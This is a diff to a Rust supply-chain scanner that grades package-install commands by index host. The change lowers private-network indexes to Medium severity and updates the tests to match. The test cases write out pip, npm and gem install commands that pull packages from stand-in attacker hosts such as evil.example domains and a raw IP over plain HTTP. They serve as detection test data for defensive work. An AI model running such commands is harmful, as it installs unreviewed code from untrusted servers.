@@ -9,9 +9,13 @@
 //!
 //! The host decides the severity: the ecosystem's own registry is no
 //! finding, a vendor index that public instructions name (PyTorch's) is
-//! `Low`, a public mirror or test index `Medium`, anything else (an
-//! internal server, a stranger's host, an IP) `High`: a package resolved
-//! there instead of the registry is code nobody reviewed.
+//! `Low`, a public mirror, a test index or a private network's host (an
+//! organisation's own index, `pypi.internal.example`, `10.0.0.5`)
+//! `Medium`, any other host (a stranger's name, a public IP) `High`: a
+//! package resolved there instead of the registry is code nobody
+//! reviewed, served by whoever wrote the skill. A private network's index
+//! is not refused: setting one up is what internal-package skills are
+//! for, and an attacker outside that network does not control it.
 
 use std::sync::LazyLock;
 
@@ -75,6 +79,7 @@ fn host_severity(url: &str) -> Option<Severity> {
         Host::Official if !plain_http => None,
         Host::Vendor if !plain_http => Some(Severity::Low),
         Host::Mirror if !plain_http => Some(Severity::Medium),
+        Host::Internal => Some(Severity::Medium),
         _ => Some(Severity::High),
     }
 }
@@ -186,7 +191,8 @@ mod tests {
         assert_eq!(worst("pip install -i https://pypi.org/simple requests"), None);
         assert_eq!(worst("pip install --extra-index-url https://download.pytorch.org/whl/cu121 torch"), Some(Severity::Low));
         assert_eq!(worst("pip install -i https://test.pypi.org/simple/ mypkg"), Some(Severity::Medium));
-        assert_eq!(worst("pip install --index-url https://pypi.internal.corp/simple acme-utils"), Some(Severity::High));
+        assert_eq!(worst("pip install --index-url https://pypi.internal.corp/simple acme-utils"), Some(Severity::Medium));
+        assert_eq!(worst("pip install --index-url https://pypi-mirror.evil.example/simple acme"), Some(Severity::High));
         assert_eq!(worst("pip install --extra-index-url=http://203.0.113.7:8080/simple acme"), Some(Severity::High));
         assert_eq!(worst("npm install --registry https://npm.evil.example lodash"), Some(Severity::High));
         assert_eq!(worst("gem install rails --source https://gems.evil.example"), Some(Severity::High));
